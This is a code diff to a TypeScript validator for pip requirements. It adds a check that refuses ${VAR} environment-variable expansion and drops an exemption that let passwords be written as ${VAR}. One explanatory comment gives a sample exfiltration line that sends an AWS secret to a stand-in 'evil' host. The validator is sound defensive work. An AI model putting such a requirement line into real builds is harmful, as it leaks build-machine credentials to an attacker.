@@ -49,6 +49,17 @@ function refuse(message: string, input: RequirementInput, offset = 0, hint = NOT
  */
 export function interpretRequirement(input: RequirementInput): PipRequirement {
   const text = input.text;
+  // pip expands ${VAR} from its own environment on every line it reads: a shared definition
+  // could send any of the build machine's variables to any URL (pkg @ https://evil/${AWS_SECRET}),
+  // and the hash would not see what gets installed. Credentials belong in builder options.
+  if (text.includes("${")) {
+    throw refuse(
+      `"${text}" uses an environment variable (\${…})`,
+      input,
+      text.indexOf("${"),
+      "write the value itself; credentials for a private index or host go in builder options (-o pip.indexUrl=https://user:token@host/simple), never in the definition",
+    );
+  }
   const suffix = requirementOptions(input);
   if (input.editable) {
     if (!URL_SCHEME.test(text) || !VCS_SCHEME.test(text) || /^[a-z]+\+file:/i.test(text)) {
@@ -167,12 +178,12 @@ function checkUrl(url: string, input: RequirementInput, offset: number): void {
   const at = authority.lastIndexOf("@");
   const userinfo = at < 0 ? "" : authority.slice(0, at);
   const password = userinfo.includes(":") ? userinfo.slice(userinfo.indexOf(":") + 1) : "";
-  if (password !== "" && !/^\$\{[A-Za-z0-9_]+\}$/.test(password)) {
+  if (password !== "") {
     throw refuse(
       `the URL in "${input.text.replace(password, "***")}" contains a password`,
       input,
       offset,
-      "requirement URLs are hashed and printed; write ${VAR} instead (pip expands it at build time from the builder option pip.env)",
+      "requirement URLs are hashed and printed; give credentials as builder options (-o pip.indexUrl=https://user:token@host/simple), never in the definition",
     );
   }
 }
